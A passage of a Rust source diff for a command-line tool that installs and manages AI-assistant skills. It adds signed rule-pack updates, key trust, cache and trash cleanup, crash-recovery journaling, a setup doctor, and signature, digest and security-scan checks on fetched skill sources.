+        println!("Trusted {} ({fingerprint})", trust.principal);
+    } else {
+        println!("{} ({fingerprint}) is already trusted", trust.principal);
+    }
+    Ok(())
+}
+
+fn untrust_key(store: &KeyStore, untrust: &KeysUntrustCommand) -> Result<()> {
+    match store.untrust(&untrust.principal)? {
+        0 => Err(anyhow!("no trusted key for {}", untrust.principal)),
+        removed => {
+            println!("Removed {removed} key(s) for {}", untrust.principal);
+            Ok(())
         }
+    }
+}
 
-        for entry in
-            fs::read_dir(&root).with_context(|| format!("failed to read {}", root.display()))?
-        {
-            let entry = entry?;
-            if !entry.file_type()?.is_dir() {
-                continue;
+pub fn cmd_rules(cmd: &RulesCommand, config: &Config, paths: &AppPaths) -> Result<()> {
+    match &cmd.action {
+        RulesAction::List => {
+            let active = rule_pack::active();
+            if output::json() {
+                return output::print_json(&active.to_json());
             }
-            let skill_dir = entry.path();
-            let skill_md = skill_dir.join("SKILL.md");
-            if !skill_md.exists() {
-                continue;
+            println!("Rule pack {} ({})", active.pack.version, active.source);
+            for rule in &active.pack.rules {
+                println!(
+                    "{:<30} {:<17} {}",
+                    rule.id,
+                    rule.check.as_str(),
+                    rule.description
+                );
             }
-
-            let contents = fs::read_to_string(&skill_md)
-                .with_context(|| format!("failed to read {}", skill_md.display()))?;
-            let frontmatter = validation::read_frontmatter(&skill_dir)?;
-            let haystack = format!(
-                "{}\n{}\n{}",
-                frontmatter.name, frontmatter.description, contents
-            )
-            .to_ascii_lowercase();
-
-            if haystack.contains(&query) {
-                matches.push((
-                    assistant,
-                    frontmatter.name,
-                    frontmatter.description,
-                    skill_dir,
-                ));
+            Ok(())
+        }
+        RulesAction::Update(update) => {
+            let url = update
+                .url
+                .as_deref()
+                .or(config.rules_url.as_deref())
+                .unwrap_or(rule_pack::DEFAULT_PACK_URL);
+            let allowed_signers = KeyStore::new(paths).allowed_signers().ok_or_else(|| {
+                anyhow!(
+                    "rule packs must be signed by a trusted key; trust the publisher's key with `skill keys trust` first"
+                )
+            })?;
+            match rule_pack::update(&paths.data_dir, url, &allowed_signers)? {
+                rule_pack::UpdateOutcome::UpToDate { version } => {
+                    println!("Rule pack {version} is up to date");
+                }
+                rule_pack::UpdateOutcome::Updated { from, to } => {
+                    println!("Updated rule pack from {from} to {to}");
+                }
             }
+            Ok(())
         }
     }
+}
 
-    if matches.is_empty() {
-        println!("No matches found");
-        return Ok(());
+pub fn cmd_cache(cmd: &CacheCommand, config: &Config, paths: &AppPaths) -> Result<()> {
+    match &cmd.action {
+        CacheAction::Prune(prune) => {
+            let configured = config.cache_limits()?;
+            let requested =
+                CacheLimits::parse(prune.max_size.as_deref(), prune.max_age.as_deref())?;
+            let limits = CacheLimits {
+                max_size: requested.max_size.or(configured.max_size),
+                max_age: requested.max_age.or(configured.max_age),
+            };
+            let cache = DownloadCache::new(&paths.cache_dir, limits);
+            let summary = cache.enforce_limits()?;
+            println!(
+                "Removed {} cached archive(s), freed {}. Cache size: {}",
+                summary.removed,
+                ByteSize(summary.freed_bytes),
+                ByteSize(summary.remaining_bytes)
+            );
+            Ok(())
+        }
     }
+}
 
-    for (assistant, name, description, path) in matches {
-        println!("{assistant}: {name}");
-        println!("Description: {description}");
-        println!("Path: {}", path.display());
-        println!();
+/// Applies the configured trash limits; runs after every command, so problems are
+/// only warnings.
+pub fn tidy_trash(config: &Config, paths: &AppPaths) {
+    let trash = Trash::new(paths);
+    if !trash.dir().exists() {
+        return;
+    }
+    let result = config.trash_limits().and_then(|limits| trash.prune(limits));
+    if let Err(err) = result {
+        eprintln!("Warning: failed to clean up trash: {err:#}");
     }
+}
 
+pub fn cmd_clean_downloads(cmd: &CleanDownloadsCommand) -> Result<()> {
+    let min_age = crate::cache::parse_duration(&cmd.older_than)?;
+    let stale = downloads::find_stale(&std::env::temp_dir(), min_age)?;
+    if stale.is_empty() {
+        println!("No leftover downloads");
+        return Ok(());
+    }
+    if cmd.dry_run {
+        for download in &stale {
+            println!(
+                "Would remove {} ({})",
+                download.path.display(),
+                ByteSize(download.size)
+            );
+        }
+        return Ok(());
+    }
+    let summary = downloads::remove_stale(&stale)?;
+    println!(
+        "Removed {} leftover download(s), freed {}",
+        summary.removed,
+        ByteSize(summary.freed_bytes)
+    );
     Ok(())
 }
 
-pub fn cmd_stats(cmd: &StatsCommand, config: &Config, paths: &AppPaths) -> Result<()> {
-    let assistants = resolve_stats_assistants(&cmd.assistant, config);
-    let usage = UsageStore::load(paths)?;
-    let mut total_bytes = 0u64;
-    let mut total_skills = 0u64;
-
-    for assistant in &assistants {
-        let root = config.skills_root_for(paths, *assistant);
-        let mut skills = Vec::new();
-        let mut assistant_bytes = 0u64;
-
-        if root.exists() {
-            for entry in
-                fs::read_dir(&root).with_context(|| format!("failed to read {}", root.display()))?
-            {
-                let entry = entry?;
-                if entry.file_type()?.is_dir() {
-                    let skill_dir = entry.path();
-                    if skill_dir.join("SKILL.md").exists() {
-                        if let Some(name) = skill_dir.file_name().and_then(|n| n.to_str()) {
-                            let size = skill_size(&skill_dir)?;
-                            assistant_bytes += size;
-                            skills.push((name.to_string(), size));
-                        }
-                    }
-                }
+pub fn cmd_trash(cmd: &TrashCommand, paths: &AppPaths) -> Result<()> {
+    let trash = Trash::new(paths);
+    match &cmd.action {
+        TrashAction::List => {
+            let entries = trash.entries()?;
+            if entries.is_empty() {
+                println!("Trash is empty");
+            }
+            for entry in entries {
+                println!(
+                    "{}  {}  {}",
+                    entry.trashed_at.format("%Y-%m-%d %H:%M:%S UTC"),
+                    entry.label,
+                    ByteSize(entry.size)
+                );
             }
+            Ok(())
         }
+        TrashAction::Empty(empty) => {
+            let older_than = empty
+                .older_than
+                .as_deref()
+                .map(crate::cache::parse_duration)
+                .transpose()?;
+            let summary = trash.empty(older_than)?;
+            println!(
+                "Deleted {} trashed skill(s), freed {}. Trash size: {}",
+                summary.removed,
+                ByteSize(summary.freed_bytes),
+                ByteSize(summary.remaining_bytes)
+            );
+            Ok(())
+        }
+    }
+}
 
-        skills.sort_by(|a, b| a.0.cmp(&b.0));
-        total_bytes += assistant_bytes;
-        total_skills += skills.len() as u64;
+pub fn cmd_journal(cmd: &JournalCommand, paths: &AppPaths) -> Result<()> {
+    let Some(journal) = Journal::pending(paths)? else {
+        println!("No interrupted operations");
+        return Ok(());
+    };
 
-        println!("{assistant}:");
-        println!("Skills: {}", skills.len());
-        println!("Size: {}", ByteSize(assistant_bytes));
+    match cmd.action {
+        JournalAction::Status => {
+            print!("{}", describe_journal(&journal));
+            Ok(())
+        }
+        JournalAction::Resume => resume_journal(journal),
+        JournalAction::Rollback => rollback_journal(journal),
+    }
+}
 
-        let usage_total: u64 = skills
-            .iter()
-            .map(|(name, _)| usage.count_for(*assistant, name))
-            .sum();
-        if usage_total > 0 {
-            println!("Usage: {}", usage_total);
-            for (name, _) in &skills {
-                let count = usage.count_for(*assistant, name);
-                if count > 0 {
-                    println!("  {name}: {count}");
-                }
+/// Checks the local setup and prints each problem with its fix. Errors when there
+/// are any, so scripts can gate on it.
+pub fn cmd_doctor(cmd: &DoctorCommand, config: &Config, paths: &AppPaths) -> Result<()> {
+    if cmd.fix {
+        for assistant in [Assistant::Codex, Assistant::ClaudeCode, Assistant::OpenCode] {
+            let root = config.skills_root_for(paths, assistant);
+            if !root.exists() {
+                ensure_dir(&root)?;
+                println!("Created {}", root.display());
             }
         }
+        let orphaned = doctor::orphaned_usage(config, paths, &[])?;
+        if !orphaned.is_empty() {
+            store::update(paths, |data| {
+                for name in &orphaned {
+                    data.usage.forget(name);
+                }
+            })?;
+            println!("Dropped usage counts of {}", orphaned.join(", "));
+        }
+    }
 
-        println!();
+    let tools = doctor::tools();
+    for (name, required, path) in &tools {
+        match path {
+            Some(path) => println!("{name}: {}", path.display()),
+            None if *required => println!("{name}: not found"),
+            None => println!("{name}: not found (optional; scans run without it)"),
+        }
     }
+    let mut problems = doctor::config_problems(paths);
+    problems.extend(doctor::tool_problems(&tools));
+    problems.extend(doctor::root_problems(config, paths));
+    problems.extend(doctor::skill_problems(config, paths)?);
+    problems.extend(doctor::usage_problems(&doctor::orphaned_usage(
+        config,
+        paths,
+        &[],
+    )?));
+    problems.extend(doctor::permission_problems(paths));
+    if problems.is_empty() {
+        println!("No problems found");
+        return Ok(());
+    }
+    for problem in &problems {
+        println!("Problem: {}", problem.message);
+        println!("  Fix: {}", problem.fix);
+    }
+    Err(anyhow!("{} problem(s) found", problems.len()))
+}
 
-    if assistants.len() > 1 {
-        println!("Total skills: {}", total_skills);
-        println!("Total size: {}", ByteSize(total_bytes));
+/// Offers to resume or roll back an operation interrupted by a previous crash.
+pub fn check_pending_journal(paths: &AppPaths) -> Result<()> {
+    let Some(journal) = Journal::pending(paths)? else {
+        return Ok(());
+    };
+
+    if !io::stdin().is_terminal() {
+        eprintln!(
+            "Warning: an interrupted `{}` operation is pending. Run `skill journal resume` or `skill journal rollback`.",
+            journal.command
+        );
+        return Ok(());
+    }
+
+    // On stderr, like the prompt, so `--json` and `--porcelain` output stays clean.
+    eprint!("{}", describe_journal(&journal));
+    match prompt_choice("Resume (r), roll back (b), or leave it for later (N)?")?.as_str() {
+        "r" | "resume" => resume_journal(journal),
+        "b" | "rollback" => rollback_journal(journal),
+        _ => Ok(()),
+    }
+}
+
+fn describe_journal(journal: &Journal) -> String {
+    let mut description = format!(
+        "Interrupted `{}` operation started {}:\n",
+        journal.command,
+        journal.started_at.format("%Y-%m-%d %H:%M:%S UTC")
+    );
+    for (index, step) in journal.steps.iter().enumerate() {
+        let state = if index < journal.completed {
+            "done"
+        } else if index == journal.completed {
+            "interrupted"
+        } else {
+            "pending"
+        };
+        description.push_str(&format!("  [{state}] {}\n", step.describe()));
     }
+    description
+}
 
+fn resume_journal(journal: Journal) -> Result<()> {
+    let command = journal.command.clone();
+    journal.run()?;
+    eprintln!("Resumed and completed `{command}`");
     Ok(())
 }
 
-pub fn cmd_mark_used(cmd: &MarkUsedCommand, config: &Config, paths: &AppPaths) -> Result<()> {
-    let assistant = resolve_single_assistant(&cmd.assistant, config, "mark-used")?;
-    let mut store = UsageStore::load(paths)?;
-    store.increment(assistant, &cmd.name);
-    store.save(paths)?;
-    println!("Marked {} used for {}", cmd.name, assistant);
+fn rollback_journal(journal: Journal) -> Result<()> {
+    let command = journal.command.clone();
+    for note in journal.rollback()? {
+        eprintln!("{note}");
+    }
+    eprintln!("Rolled back `{command}`");
     Ok(())
 }
 
@@ -311,30 +6435,68 @@ fn resolve_single_assistant(
     config: &Config,
     command: &str,
 ) -> Result<Assistant> {
-    if let Some(selected) = args.selected() {
+    if let Some(selected) = args.selected()? {
         return Ok(selected);
     }
+    match config.command_assistants.get(command) {
+        Some(DefaultAssistant::One(assistant)) => return Ok(*assistant),
+        Some(DefaultAssistant::All) => {
+            return Err(anyhow!(
+                "command_assistants sets `all` for {command}, which works on one assistant. Pass --assistant <name> or run `skill default <assistant> --command {command}`."
+            ));
+        }
+        None => {}
+    }
 
     if let Some(default) = config.default_assistant {
         eprintln!(
-            "Warning: using default assistant {default} for {command}. Use --codex/--claudecode/--opencode to override."
+            "Warning: using default assistant {default} for {command}. Use --assistant <name> to override."
         );
         return Ok(default);
     }
 
     Err(anyhow!(
-        "no assistant selected. Set a default with `skill default <assistant>` or pass --codex/--claudecode/--opencode."
+        "no assistant selected. Set a default with `skill default <assistant>` or pass --assistant <name>."
     ))
 }
 
-fn resolve_list_assistants(args: &AssistantArgs, config: &Config) -> Vec<Assistant> {
-    if let Some(selected) = args.selected() {
-        return vec![selected];
+/// Commands that act on exactly one assistant, so `all` is no default for them.
+const SINGLE_ASSISTANT_COMMANDS: &[&str] = &[
+    "add",
+    "remove",
+    "update",
+    "protect",
+    "unprotect",
+    "mark-used",
+    "convert",
+];
+
+/// The `command_assistants` entry for `command`. It was configured for this command
+/// on purpose, so unlike `default_assistant` it is used without a warning.
+fn command_default(config: &Config, command: &str) -> Option<Vec<Assistant>> {
+    config
+        .command_assistants
+        .get(command)
+        .map(|choice| match choice {
+            DefaultAssistant::All => {
+                vec![Assistant::Codex, Assistant::ClaudeCode, Assistant::OpenCode]
+            }
+            DefaultAssistant::One(assistant) => vec![*assistant],
+        })
+}
+
+fn resolve_list_assistants(args: &AssistantArgs, config: &Config, command: &str) -> Vec<Assistant> {
+    let selected = args.selected_all();
+    if !selected.is_empty() {
+        return selected;
+    }
+    if let Some(assistants) = command_default(config, command) {
+        return assistants;
     }
 
     if let Some(default) = config.default_assistant {
         eprintln!(
-            "Warning: using default assistant {default} for list. Use --codex/--claudecode/--opencode to override."
+            "Warning: using default assistant {default} for {command}. Use --assistant <name> to override."
         );
         return vec![default];
     }
@@ -344,13 +6506,17 @@ fn resolve_list_assistants(args: &AssistantArgs, config: &Config) -> Vec<Assista
 }
 
 fn resolve_stats_assistants(args: &AssistantArgs, config: &Config) -> Vec<Assistant> {
-    if let Some(selected) = args.selected() {
-        return vec![selected];
+    let selected = args.selected_all();
+    if !selected.is_empty() {
+        return selected;
+    }
+    if let Some(assistants) = command_default(config, "stats") {
+        return assistants;
     }
 
     if let Some(default) = config.default_assistant {
         eprintln!(
-            "Warning: using default assistant {default} for stats. Use --codex/--claudecode/--opencode to override."
+            "Warning: using default assistant {default} for stats. Use --assistant <name> to override."
         );
         return vec![default];
     }
@@ -359,9 +6525,33 @@ fn resolve_stats_assistants(args: &AssistantArgs, config: &Config) -> Vec<Assist
     vec![Assistant::Codex, Assistant::ClaudeCode, Assistant::OpenCode]
 }
 
+fn resolve_upgrade_assistants(args: &AssistantArgs, config: &Config) -> Vec<Assistant> {
+    let selected = args.selected_all();
+    if !selected.is_empty() {
+        return selected;
+    }
+    if let Some(assistants) = command_default(config, "upgrade") {
+        return assistants;
+    }
+
+    if let Some(default) = config.default_assistant {
+        eprintln!(
+            "Warning: using default assistant {default} for upgrade. Use --assistant <name> to override."
+        );
+        return vec![default];
+    }
+
+    eprintln!("Warning: no default assistant set. Upgrading skills for all assistants.");
+    vec![Assistant::Codex, Assistant::ClaudeCode, Assistant::OpenCode]
+}
+
 fn resolve_show_assistants(args: &AssistantArgs, config: &Config) -> Vec<Assistant> {
-    if let Some(selected) = args.selected() {
-        return vec![selected];
+    let selected = args.selected_all();
+    if !selected.is_empty() {
+        return selected;
+    }
+    if let Some(assistants) = command_default(config, "show") {
+        return assistants;
     }
 
     if let Some(default) = config.default_assistant {
@@ -372,30 +6562,496 @@ fn resolve_show_assistants(args: &AssistantArgs, config: &Config) -> Vec<Assista
     vec![Assistant::Codex, Assistant::ClaudeCode, Assistant::OpenCode]
 }
 
-fn prepare_source(source: &str) -> Result<(PathBuf, Option<TempDir>)> {
+#[derive(Debug, Default, Clone)]
+struct SourceOptions {
+    require_signed_commits: bool,
+    /// Archives need a trusted `.sig` and git sources a signed HEAD commit.
+    require_signatures: bool,
+    allowed_signers: Option<PathBuf>,
+    cache: Option<DownloadCache>,
+    git_timeout: Option<Duration>,
+    gitlab_host: String,
+    archive_password: Option<String>,
+    /// Branch, tag or commit to fetch from a git source.
+    reference: Option<String>,
+    /// Lowercase hex SHA-256 an archive source must have, from `add --sha256`.
+    expected_sha256: Option<String>,
+    /// Download speed cap in bytes per second, from `download_rate_limit`.
+    rate_limit: Option<u64>,
+}
+
+fn source_options(
+    config: &Config,
+    paths: &AppPaths,
+    require_signed_commits: bool,
+    allowed_signers: Option<PathBuf>,
+) -> Result<SourceOptions> {
+    Ok(SourceOptions {
+        require_signed_commits: require_signed_commits || config.require_signed_commits,
+        require_signatures: config.require_signatures,
+        allowed_signers: allowed_signers
+            .or_else(|| config.allowed_signers_file.clone())
+            .or_else(|| KeyStore::new(paths).allowed_signers()),
+        cache: Some(DownloadCache::new(&paths.cache_dir, config.cache_limits()?)),
+        git_timeout: config.tool_timeouts()?.git,
+        gitlab_host: config
+            .gitlab_host
+            .clone()
+            .unwrap_or_else(|| hosts::DEFAULT_GITLAB_HOST.to_string()),
+        archive_password: None,
+        reference: None,
+        expected_sha256: None,
+        rate_limit: config.download_rate_limit()?,
+    })
+}
+
+/// Validates and security-scans a fetched skill before it is installed. Findings are
+/// reported under the skill's frontmatter name, or `install_name` when it has none.
+fn check_skill(
+    skill_dir: &Path,
+    install_name: &str,
+    assistant: Assistant,
+    config: &Config,
+    paths: &AppPaths,
+    downloaded: bool,
+) -> Result<Vec<String>> {
+    let validation_options = validation::ValidationOptions {
+        categories: config.categories.clone(),
+        assistant: Some(assistant),
+        ..Default::default()
+    };
+    let validation_report = validation::validate_skill_dir_with(skill_dir, &validation_options)?;
+    let skill_name = validation::read_frontmatter(skill_dir)
+        .ok()
+        .map(|frontmatter| frontmatter.name)
+        .filter(|name| !name.is_empty())
+        .unwrap_or_else(|| install_name.to_string());
+    let record_finding = |rule: &str| {
+        audit::record(
+            paths,
+            AuditEvent::new(AuditAction::Finding, Some(assistant), &skill_name).with_detail(rule),
+        );
+    };
+    let mut warnings = Vec::new();
+    for issue in &validation_report.issues {
+        emit_finding(
+            &skill_name,
+            "validation",
+            issue.rule,
+            issue.severity.as_str(),
+            &issue.message,
+            issue.path.as_deref(),
+        );
+        if !progress::json() {
+            eprintln!("{issue}");
+        }
+        record_finding(issue.rule);
+        if issue.severity == validation::Severity::Warning {
+            warnings.push(format!("{}: {}", issue.rule, issue.message));
+        }
+    }
+    progress::emit(
+        "validation_finished",
+        serde_json::json!({
+            "skill": skill_name,
+            "passed": !validation_report.has_errors(),
+            "issues": validation_report.issues.len(),
+        }),
+    );
+    if validation_report.has_errors() {
+        return Err(anyhow!("validation failed"));
+    }
+
+    let scan_options = scan::ScanOptions {
+        timeouts: config.tool_timeouts()?,
+        profile: !downloaded || config.trust_scan_profiles,
+        ..Default::default()
+    };
+    let scan_report = scan::scan_path(skill_dir, &scan_options)?;
+    for issue in &scan_report.issues {
+        emit_finding(
+            &skill_name,
+            "scan",
+            issue.rule,
+            issue.severity.as_str(),
+            &issue.message,
+            issue.path.as_deref(),
+        );
+        if !progress::json() {
+            eprintln!("{issue}");
+        }
+        record_finding(issue.rule);
+        if issue.severity == scan::Severity::Warning {
+            warnings.push(format!("{}: {}", issue.rule, issue.message));
+        }
+    }
+    for external in &scan_report.external {
+        emit_finding(
+            &skill_name,
+            "scan",
+            &external.tool,
+            external.severity.as_str(),
+            external.output.trim(),
+            None,
+        );
+        if !progress::json() {
+            eprintln!("[{}] {}", external.tool, external.output);
+        }
+        if external.severity == scan::Severity::Warning {
+            warnings.push(format!("{}: {}", external.tool, external.output.trim()));
+        }
+    }
+    progress::emit(
+        "scan_finished",
+        serde_json::json!({
+            "skill": skill_name,
+            "passed": !scan_report.has_errors(),
+            "findings": scan_report.issues.len() + scan_report.external.len(),
+        }),
+    );
+    if scan_report.has_errors() {
+        if downloaded {
+            eprintln!("Downloaded files were removed after scan failure.");
+        }
+        return Err(anyhow!("security scan failed"));
+    }
+    Ok(warnings)
+}
+
+/// A `finding` event for one validation or scan issue under `--progress json`.
+fn emit_finding(
+    skill: &str,
+    stage: &str,
+    rule: &str,
+    severity: &str,
+    message: &str,
+    path: Option<&Path>,
+) {
+    progress::emit(
+        "finding",
+        serde_json::json!({
+            "skill": skill,
+            "stage": stage,
+            "rule": rule,
+            "severity": severity,
+            "message": message,
+            "path": path,
+        }),
+    );
+}
+
+/// What an install or removal is about to do, printed right before its y/N prompt.
+struct ActionSummary<'a> {
+    action: &'a str,
+    name: &'a str,
+    dir: &'a Path,
+    warnings: &'a [String],
+}
+
+fn print_action_summary(summary: &ActionSummary, details: ConfirmDetails) -> Result<()> {
+    let mut files = Vec::new();
+    for entry in WalkDir::new(summary.dir).follow_links(false) {
+        let entry = entry?;
+        let rel_path = entry.path().strip_prefix(summary.dir)?;
+        if entry.file_type().is_file() && !should_skip(rel_path) {
+            files.push(rel_path.to_path_buf());
+        }
+    }
+    files.sort();
+    let size = ByteSize(skill_size(summary.dir)?);
+
+    match details {
+        ConfirmDetails::Short => {
+            let warnings = match summary.warnings.len() {
+                0 => String::new(),
+                count => format!(", {count} warning(s)"),
+            };
+            eprintln!(
+                "{} {}: {} file(s), {size}{warnings}",
+                summary.action,
+                summary.name,
+                files.len()
+            );
+        }
+        ConfirmDetails::Full => {
+            eprintln!("{} {}", summary.action, summary.name);
+            eprintln!("  Files: {} ({size})", files.len());
+            for file in files.iter().take(MAX_SUMMARY_LINES) {
+                eprintln!("    {}", file.display());
+            }
+            if files.len() > MAX_SUMMARY_LINES {
+                eprintln!("    ... {} more", files.len() - MAX_SUMMARY_LINES);
+            }
+            if !summary.warnings.is_empty() {
+                eprintln!("  Warnings:");
+                for warning in summary.warnings {
+                    eprintln!("    {warning}");
+                }
+            }
+        }
+    }
+    Ok(())
+}
+
+/// Like `check_skill`, but returns the first blocking finding instead of printing.
+fn blocking_issue(skill_dir: &Path, config: &Config, downloaded: bool) -> Result<Option<String>> {
+    let validation_report = validation::validate_skill_dir(skill_dir)?;
+    if let Some(issue) = validation_report
+        .issues
+        .iter()
+        .find(|issue| issue.severity == validation::Severity::Error)
+    {
+        return Ok(Some(format!("validation failed: {issue}")));
+    }
+
+    let scan_options = scan::ScanOptions {
+        timeouts: config.tool_timeouts()?,
+        profile: !downloaded || config.trust_scan_profiles,
+        ..Default::default()
+    };
+    let scan_report = scan::scan_path(skill_dir, &scan_options)?;
+    if scan_report.has_errors() {
+        let detail = scan_report
+            .issues
+            .iter()
+            .find(|issue| issue.severity == scan::Severity::Error)
+            .map(ToString::to_string)
+            .unwrap_or_else(|| "an external scanner reported findings".to_string());
+        return Ok(Some(format!("security scan failed: {detail}")));
+    }
+    Ok(None)
+}
+
+/// What `scan` or `validate` checks: a local directory, or a source fetched into a
+/// temp dir that lives as long as this does.
+pub struct CheckTarget {
+    pub dir: PathBuf,
+    /// Whether `dir` was fetched, so findings should be reported relative to it.
+    pub fetched: bool,
+    _temp_dir: Option<TempDir>,
+}
+
+/// Resolves the target of `scan`/`validate`. A local directory is checked in place;
+/// anything else `add` accepts (URLs, git sources, shorthands, archives) is fetched
+/// without installing it, so skills shared in chat can be triaged first. `skill`
+/// picks one skill inside the target, and `single` requires exactly one.
+pub fn resolve_check_target(
+    target: &str,
+    skill: Option<&str>,
+    single: bool,
+    config: &Config,
+    paths: &AppPaths,
+) -> Result<CheckTarget> {
+    let local = Path::new(target);
+    let (dir, temp_dir) = if local.exists() && detect_archive_type(target).is_none() {
+        (local.to_path_buf(), None)
+    } else {
+        // Only reading it, so content that may not be installed can still be checked.
+        let options = SourceOptions {
+            require_signed_commits: false,
+            require_signatures: false,
+            ..source_options(config, paths, false, None)?
+        };
+        let prepared = prepare_source(target, &options)?;
+        (prepared.dir, prepared.temp_dir)
+    };
+    let dir = match skill {
+        Some(_) => select_skill_dir(&dir, skill)?,
+        None if single && temp_dir.is_some() => select_skill_dir(&dir, None)?,
+        None => dir,
+    };
+    Ok(CheckTarget {
+        dir,
+        fetched: temp_dir.is_some(),
+        _temp_dir: temp_dir,
+    })
+}
+
+/// A fetched source tree; `temp_dir` keeps downloaded files alive until dropped.
+struct PreparedSource {
+    dir: PathBuf,
+    temp_dir: Option<TempDir>,
+    /// `sha256:<hex>` of the downloaded archive bytes, for archive sources.
+    archive_digest: Option<String>,
+    /// URL the archive was finally served from, after redirects.
+    resolved_url: Option<String>,
+}
+
+fn prepare_source(source: &str, options: &SourceOptions) -> Result<PreparedSource> {
     let source_path = PathBuf::from(source);
+    if source_path.is_file()
+        && let Some(archive_type) = detect_archive_type(source)
+    {
+        return prepare_local_archive(&source_path, archive_type, options);
+    }
     if source_path.exists() {
         if !source_path.is_dir() {
-            return Err(anyhow!("source path is not a directory"));
+            return Err(anyhow!(
+                "source path is neither a directory nor a .zip, .tar or .tar.gz archive"
+            ));
+        }
+        if options.reference.is_some() {
+            return Err(anyhow!(
+                "--ref needs a git source, but {source} is a local directory"
+            ));
+        }
+        if options.expected_sha256.is_some() {
+            return Err(anyhow!(
+                "--sha256 needs an archive source, but {source} is a local directory"
+            ));
+        }
+        if options.require_signatures {
+            return Err(anyhow!(
+                "signatures are required but {source} is a local directory; install a signed pack of it (`skill pack --sign`) instead"
+            ));
+        }
+        if options.require_signed_commits {
+            verify_head_signature(&source_path, source, options)?;
         }
-        return Ok((source_path, None));
+        return Ok(PreparedSource {
+            dir: source_path,
+            temp_dir: None,
+            archive_digest: None,
+            resolved_url: None,
+        });
+    }
+
+    if let Some(repo) = hosted_repo(source, options)? {
+        return prepare_hosted(&repo, options);
     }
 
     if looks_like_http_url(source) {
         if let Some(archive_type) = detect_archive_type(source) {
-            let (path, temp_dir) = download_and_extract(source, archive_type)?;
-            return Ok((path, Some(temp_dir)));
+            if options.reference.is_some() {
+                return Err(anyhow!(
+                    "--ref needs a git source, but {source} is an archive"
+                ));
+            }
+            if options.require_signed_commits {
+                return Err(anyhow!(
+                    "signed commits are required but {source} is an archive, not a git source"
+                ));
+            }
+            return download_and_extract(source, archive_type, options, None);
+        }
+        return clone_prepared(source, options);
+    }
+
+    if looks_like_git_source(source) {
+        return clone_prepared(source, options);
+    }
+
+    Err(anyhow!("source not found: {source}"))
+}
+
+/// Extracts an archive file from disk the same way as a downloaded one, checking a
+/// `<path>.sig` next to it when there is one.
+fn prepare_local_archive(
+    archive_path: &Path,
+    archive_type: ArchiveType,
+    options: &SourceOptions,
+) -> Result<PreparedSource> {
+    let source = archive_path.display();
+    if options.reference.is_some() {
+        return Err(anyhow!(
+            "--ref needs a git source, but {source} is an archive"
+        ));
+    }
+    if options.require_signed_commits {
+        return Err(anyhow!(
+            "signed commits are required but {source} is an archive, not a git source"
+        ));
+    }
+    let temp_dir = downloads::temp_dir()?;
+    let mut signature_path = archive_path.as_os_str().to_owned();
+    signature_path.push(".sig");
+    let signature_path = PathBuf::from(signature_path);
+    if signature_path.is_file() {
+        match &options.allowed_signers {
+            Some(allowed_signers) => {
+                let signer = pack::verify_pack(archive_path, &signature_path, allowed_signers)?;
+                eprintln!("Verified signature of {source} by {signer}");
+            }
+            None => unverifiable_signature(&signature_path.display().to_string(), options)?,
+        }
+    } else if options.require_signatures {
+        return Err(missing_signature(
+            &source.to_string(),
+            &signature_path.display().to_string(),
+        ));
+    }
+    let digest = format!("sha256:{}", manifest::hash_file(archive_path)?);
+    check_expected_digest(&source.to_string(), &digest, options)?;
+    let dir = extract_archive(archive_path, archive_type, options, temp_dir.path())?;
+    Ok(PreparedSource {
+        dir,
+        temp_dir: Some(temp_dir),
+        archive_digest: Some(digest),
+        resolved_url: None,
+    })
+}
+
+/// Host shorthand in `source`, with the `--ref` from `options` in place of an `@ref`.
+fn hosted_repo(source: &str, options: &SourceOptions) -> Result<Option<HostedRepo>> {
+    let Some(mut repo) = hosts::parse_shorthand(source, &options.gitlab_host)? else {
+        return Ok(None);
+    };
+    if let Some(reference) = &options.reference {
+        if repo.reference.as_ref().is_some_and(|own| own != reference) {
+            return Err(anyhow!(
+                "{source} already names a ref; drop --ref {reference} or the @ref"
+            ));
         }
-        let (path, temp_dir) = clone_git_source(source)?;
-        return Ok((path, Some(temp_dir)));
+        repo.reference = Some(reference.clone());
     }
+    Ok(Some(repo))
+}
+
+fn clone_prepared(source: &str, options: &SourceOptions) -> Result<PreparedSource> {
+    refuse_expected_digest(source, options)?;
+    let (dir, temp_dir) = clone_git_source(source, options, options.reference.as_deref(), None)?;
+    Ok(PreparedSource {
+        dir,
+        temp_dir: Some(temp_dir),
+        archive_digest: None,
+        resolved_url: None,
+    })
+}
 
-    if looks_like_git_source(source) {
-        let (path, temp_dir) = clone_git_source(source)?;
-        return Ok((path, Some(temp_dir)));
+/// Fetches a GitHub, GitLab or Bitbucket shorthand source: the host's archive of the requested ref,
+/// or a shallow clone of the default branch. Signed-commit checks need the git
+/// history, so they always clone.
+fn prepare_hosted(repo: &HostedRepo, options: &SourceOptions) -> Result<PreparedSource> {
+    let result = if repo.reference.is_some()
+        && !options.require_signed_commits
+        && !options.require_signatures
+    {
+        download_and_extract(&repo.archive_url(), ArchiveType::TarGz, options, Some(repo))
+    } else {
+        refuse_expected_digest(&repo.path, options)?;
+        clone_git_source(
+            &repo.clone_url(),
+            options,
+            repo.reference.as_deref(),
+            repo.git_auth_header().as_deref(),
+        )
+        .map(|(dir, temp_dir)| PreparedSource {
+            dir,
+            temp_dir: Some(temp_dir),
+            archive_digest: None,
+            resolved_url: None,
+        })
+    };
+    let token_env = repo.host.token_env();
+    if std::env::var_os(token_env).is_none() {
+        return result.with_context(|| {
+            format!(
+                "failed to fetch {}; set {token_env} if the repository is private",
+                repo.path
+            )
+        });
     }
-
-    Err(anyhow!("source not found: {source}"))
+    result
 }
 
 fn resolve_skill_path(root: &Path, skill: &str) -> Result<PathBuf> {
@@ -430,16 +7086,49 @@ fn resolve_skill_path(root: &Path, skill: &str) -> Result<PathBuf> {
     ))
 }
 
-fn clone_git_source(source: &str) -> Result<(PathBuf, TempDir)> {
-    let temp_dir = tempfile::tempdir().context("failed to create temp dir")?;
-    let status = Command::new("git")
-        .arg("clone")
-        .arg("--depth")
-        .arg("1")
-        .arg(source)
-        .arg(temp_dir.path())
-        .status()
-        .with_context(|| format!("failed to run git clone for {source}"))?;
+fn clone_git_source(
+    source: &str,
+    options: &SourceOptions,
+    reference: Option<&str>,
+    auth_header: Option<&str>,
+) -> Result<(PathBuf, TempDir)> {
+    let temp_dir = downloads::temp_dir()?;
+    let commit = reference.filter(|reference| is_commit_sha(reference));
+    let git = || {
+        let mut command = Command::new("git");
+        if let Some(header) = auth_header {
+            command
+                .env("GIT_CONFIG_COUNT", "1")
+                .env("GIT_CONFIG_KEY_0", "http.extraHeader")
+                .env("GIT_CONFIG_VALUE_0", header);
+        }
+        command
+    };
+    let status = if let Some(commit) = commit {
